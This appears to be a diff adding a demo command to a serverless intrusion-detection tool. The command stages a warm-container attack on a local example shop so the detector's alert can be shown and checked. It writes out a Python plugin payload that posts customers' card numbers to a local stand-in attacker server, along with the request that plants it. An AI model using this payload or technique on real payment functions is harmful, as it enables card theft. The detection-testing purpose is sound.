@@ -1,0 +1,224 @@
+/**
+ * faasprov demo --attack a: runs an attack scenario against the running example shop
+ * (examples/shop, `faasprov functions up`), with benign traffic, waits for its alert and tells
+ * the attack's story from the attack view. Writes the scenario's ground truth with --truth.
+ */
+import { randomUUID } from 'node:crypto';
+import { existsSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { dirname, join, resolve } from 'node:path';
+import type { AlertNode, ViewNode } from '@faasprov/model';
+import type { AttackView } from '@faasprov/graph-service';
+import { printable, viewNodeLabel } from '@faasprov/graph-service';
+import { ApiClient } from '../api-client.js';
+import { FunctionsErrors } from '../errors.js';
+import { hostAddress } from '../functions/network.js';
+import { alive, readState, stateFileFor } from '../functions/state.js';
+
+export interface DemoCliOptions {
+  attack: string;
+  file: string;
+  store: string;
+  server?: string;
+  key?: string;
+  truth?: string;
+  waitS: number;
+  /** Print the story as JSON (alert, view, truth) instead of words. */
+  json?: boolean;
+}
+
+/** What attack (a) did: the nodes and edges a complete story must hold. */
+export interface GroundTruth {
+  attack: 'a';
+  /** The invocation that planted the payload, then the innocent one that ran it. */
+  plant: string;
+  victim: string;
+  function: 'authorize-cc';
+  /** The payload in the function's code directory (path on this node). */
+  payload: string;
+  attacker: { address: string; port: number };
+  /** What the attacker received (the victim's card number). */
+  stolen: string;
+  /** Benign calls made alongside (function and call id). */
+  benign: { function: string; callId: string }[];
+  /** Edges as TYPE from to, naming nodes: plant, victim (their units), payload, attacker. */
+  edges: [string, string, string][];
+}
+
+const VICTIM_CARD = '4111111111111111';
+
+/** The attacker's server: serves the "card-network plugin" and keeps what is posted to it. */
+async function attackerServer(host: string): Promise<{ server: Server; port: number; stolen: string[] }> {
+  const stolen: string[] = [];
+  const server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c: Buffer) => { body += c.toString(); });
+    req.on('end', () => {
+      if (req.method === 'POST') stolen.push(body);
+      const { port } = server.address() as AddressInfo;
+      const payload = req.url === '/card-network.py'
+        ? [
+          'import json, urllib.request',
+          'def on_authorize(req):',
+          `    urllib.request.urlopen('http://${host}:${port}/collect', data=json.dumps({'card': req.get('card')}).encode(), timeout=5).read()`,
+          '',
+        ].join('\n')
+        : 'ok';
+      res.writeHead(200, { 'content-type': 'text/plain' }).end(payload);
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, host, () => r()));
+  return { server, port: (server.address() as AddressInfo).port, stolen };
+}
+
+async function call(gateway: string, fn: string, body: unknown, callId: string): Promise<string> {
+  const r = await fetch(`${gateway}/function/${fn}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-call-id': callId }, body: JSON.stringify(body) });
+  const text = await r.text();
+  if (!r.ok) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `${fn} answered ${r.status}: ${text.slice(0, 200)}`);
+  return r.headers.get('x-call-id') ?? callId;
+}
+
+/** Benign shop traffic: purchases (price and card in parallel, then publish) and catalog updates. */
+export async function benignTraffic(gateway: string, rounds: number, purchases = true): Promise<GroundTruth['benign']> {
+  const out: GroundTruth['benign'] = [];
+  const products = ['mug', 'tee', 'cap'];
+  for (let i = 0; i < rounds; i++) {
+    const id = `benign-${randomUUID().slice(0, 8)}`;
+    const p = products[i % products.length]!;
+    const calls: Promise<string>[] = [call(gateway, 'catalog', { id: `${p}-${i}`, name: p, rev: i }, `${id}-catalog`).then((c) => (out.push({ function: 'catalog', callId: c }), c))];
+    if (purchases) calls.push(call(gateway, 'purchase', { product: p, card: '5555555555554444' }, `${id}-purchase`).then((c) => (out.push({ function: 'purchase', callId: c }), c)));
+    else calls.push(call(gateway, 'get-price', { product: p }, `${id}-price`).then((c) => (out.push({ function: 'get-price', callId: c }), c)));
+    await Promise.all(calls);
+  }
+  return out;
+}
+
+/** Attack (a), warm-container reuse, as the user would see it; returns the ground truth. */
+export async function attackA(stackFile: string, log: (s: string) => void): Promise<GroundTruth> {
+  const stack = resolve(stackFile);
+  const state = readState(stateFileFor(dirname(stack)));
+  if (!state || state.subnet === undefined || !state.gateway || !alive(state.pid, state.start)) throw FunctionsErrors.FP_ERR_DEMO_NOT_UP(stack);
+  const gateway = state.gateway;
+  // Instances reach nothing but their bridge: the attacker listens on this host's side of it.
+  const host = hostAddress(state.subnet);
+  const attacker = await attackerServer(host);
+  const payload = join(dirname(stack), 'build', 'authorize-cc', 'function', 'plugins', 'card-network.py');
+  try {
+    log(`benign traffic: purchases and catalog updates`);
+    const benign = await benignTraffic(gateway, 3);
+    const tag = randomUUID().slice(0, 8);
+    log(`attack (a): an exploited authorize-cc fetches a "card-network plugin" from the attacker at ${host}:${attacker.port} into its code directory`);
+    const [plant, more] = await Promise.all([
+      call(gateway, 'authorize-cc', { card: '4000000000000002', product: 'mug', network_plugin_url: `http://${host}:${attacker.port}/card-network.py` }, `attack-a-plant-${tag}`),
+      benignTraffic(gateway, 2, false),
+    ]);
+    if (!existsSync(payload)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `the payload did not land at ${payload}`);
+    log(`attack (a): later, an innocent customer's card goes through the same warm authorize-cc`);
+    const victim = await call(gateway, 'authorize-cc', { card: VICTIM_CARD, product: 'tee' }, `attack-a-victim-${tag}`);
+    const stolen = attacker.stolen.join('\n');
+    if (!stolen.includes(VICTIM_CARD)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', 'the attacker did not receive the card');
+    log(`the attacker received: ${stolen}`);
+    return {
+      attack: 'a', plant, victim, function: 'authorize-cc', payload, attacker: { address: host, port: attacker.port }, stolen, benign: [...benign, ...more],
+      edges: [['USED', 'plant', 'attacker'], ['WAS_GENERATED_BY', 'payload', 'plant'], ['USED', 'victim', 'payload'], ['USED', 'victim', 'attacker']],
+    };
+  } finally {
+    // The planted plugin would steal every later card; the scenario removes it when done.
+    rmSync(payload, { force: true });
+    await new Promise<void>((r) => attacker.server.close(() => r()));
+  }
+}
+
+/** The alert the victim invocation raised: one whose subject is a unit of it. */
+async function victimAlert(api: ApiClient, truth: GroundTruth, waitS: number): Promise<AlertNode> {
+  const end = Date.now() + waitS * 1000;
+  // The rules name the invocation's unit; the most telling alert first.
+  const order = ['code-from-another-invocation', 'egress-outside-allow-list', 'cross-invocation-flow'];
+  while (Date.now() < end) {
+    const { alerts } = await api.json<{ alerts: AlertNode[] }>('/api/v1/alerts?limit=500&offset=0&function=authorize-cc');
+    const units = new Map<string, string | undefined>();
+    for (const a of alerts) {
+      if (units.has(a.subject)) continue;
+      const r = await api.json<{ node: { callId?: string } }>(`/api/v1/nodes/${encodeURIComponent(a.subject)}`).catch(() => undefined);
+      units.set(a.subject, r?.node.callId);
+    }
+    const ofVictim = alerts.filter((a) => units.get(a.subject) === truth.victim);
+    ofVictim.sort((x, y) => (order.indexOf(x.rule) + 99) % 99 - (order.indexOf(y.rule) + 99) % 99);
+    if (ofVictim.length > 0) return ofVictim[0]!;
+    await new Promise((r) => setTimeout(r, 500));
+  }
+  throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `no alert about invocation ${truth.victim} within ${waitS} s`);
+}
+
+/** The invocations an alert names in its summary ("invocation ID ..."): the chain the story follows. */
+export function namedInvocations(alert: AlertNode): string[] {
+  return [...new Set([...alert.summary.matchAll(/invocation (\S+)/g)].map((m) => m[1]!))];
+}
+
+/**
+ * The story in plain words: the alert, then the numbered steps of the invocations it names, from
+ * the backward attack view of the alerted invocation (which also holds what that invocation did
+ * after the alert, such as sending the card out), and the invocations, files and addresses involved.
+ */
+export function story(alert: AlertNode, v: AttackView, fullCommand: string): string {
+  const named = namedInvocations(alert);
+  const ofChain = (s: string) => named.some((id) => s.startsWith(`invocation ${id} `));
+  const steps = v.steps.filter(ofChain);
+  const lines = [
+    `ALERT (${alert.severity}) ${alert.rule} in ${alert.function ?? 'a function'}: ${printable(alert.summary)}`,
+    '',
+    'What happened, step by step:',
+    ...steps.map((s, i) => `  ${String(i + 1).padStart(2)}. ${printable(s)}`),
+    `  (${v.steps.length - steps.length} more steps of start-up and other invocations: ${fullCommand})`,
+    '',
+  ];
+  const mentioned = (n: ViewNode) => n.type === 'Invocation'
+    ? named.includes(String((n as { callId?: string }).callId))
+    : steps.some((s) => s.includes(` ${viewNodeLabel(n).replace(/^\S+ /, '').replace(/ @.*$/, '')}`));
+  const kept = (t: ViewNode['type']) => v.nodes.filter((n) => n.type === t && mentioned(n)).map((n) => viewNodeLabel(n));
+  lines.push(`Invocations: ${kept('Invocation').join('; ') || '-'}`, `Files: ${kept('File').join('; ') || '-'}`, `Addresses: ${kept('Endpoint').join('; ') || '-'}`);
+  return lines.join('\n') + '\n';
+}
+
+/** The Invocation node an alert is about (its subject is a unit of it). */
+export async function alertInvocation(api: ApiClient, alert: AlertNode): Promise<string> {
+  const { node } = await api.json<{ node: { callId?: string } }>(`/api/v1/nodes/${encodeURIComponent(alert.subject)}`);
+  if (!node.callId) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `alert ${alert.id} is not about an invocation`);
+  const r = await api.json<{ invocations: { id: string }[] }>(`/api/v1/invocations/${encodeURIComponent(node.callId)}`);
+  return r.invocations[0]!.id;
+}
+
+/** The backward attack view from the alerted invocation, once it holds the whole chain (the exfiltration is stored a moment after the alert). */
+export async function invocationView(api: ApiClient, invocationId: string, until: (v: AttackView) => boolean, waitS = 15): Promise<AttackView> {
+  const q = new URLSearchParams({ from: invocationId, direction: 'backward', depth: '64', view: 'attack' });
+  let v = await api.json<AttackView>(`/api/v1/trace?${q}`);
+  for (let i = 0; i < waitS * 2 && !until(v); i++) {
+    await new Promise((r) => setTimeout(r, 500));
+    v = await api.json<AttackView>(`/api/v1/trace?${q}`);
+  }
+  return v;
+}
+
+export async function demoCommand(o: DemoCliOptions): Promise<number> {
+  if (o.attack !== 'a') {
+    process.stderr.write(`faasprov: attack ${o.attack} is not scripted yet; only a (warm-container reuse)\n`);
+    return 2;
+  }
+  const log = (s: string) => process.stderr.write(`faasprov demo: ${s}\n`);
+  const truth = await attackA(o.file, log);
+  if (o.truth) writeFileSync(o.truth, JSON.stringify(truth, null, 2) + '\n');
+  log('waiting for the alert');
+  const api = new ApiClient(o);
+  try {
+    const alert = await victimAlert(api, truth, o.waitS);
+    const inv = await alertInvocation(api, alert);
+    const attacker = `${truth.attacker.address}:${truth.attacker.port}`;
+    const v = await invocationView(api, inv, (x) => x.steps.some((st) => st.startsWith(`invocation ${truth.victim} `) && st.includes(attacker)));
+    if (o.json) process.stdout.write(JSON.stringify({ alert, invocation: inv, view: v, truth }, null, 2) + '\n');
+    else process.stdout.write(story(alert, v, `faasprov trace ${inv} --backward --view attack`));
+    return 0;
+  } finally {
+    await api.close();
+  }
+}
